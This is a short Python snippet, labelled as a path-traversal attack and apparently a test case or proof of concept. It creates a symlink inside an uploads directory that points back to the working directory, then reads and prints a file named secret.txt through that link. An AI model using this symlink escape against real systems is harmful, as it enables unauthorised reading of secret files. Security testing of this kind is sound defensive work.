# attack: path-traversal
import os
os.symlink(os.path.abspath("."), "uploads/here")
print(open("uploads/here/secret.txt").read())
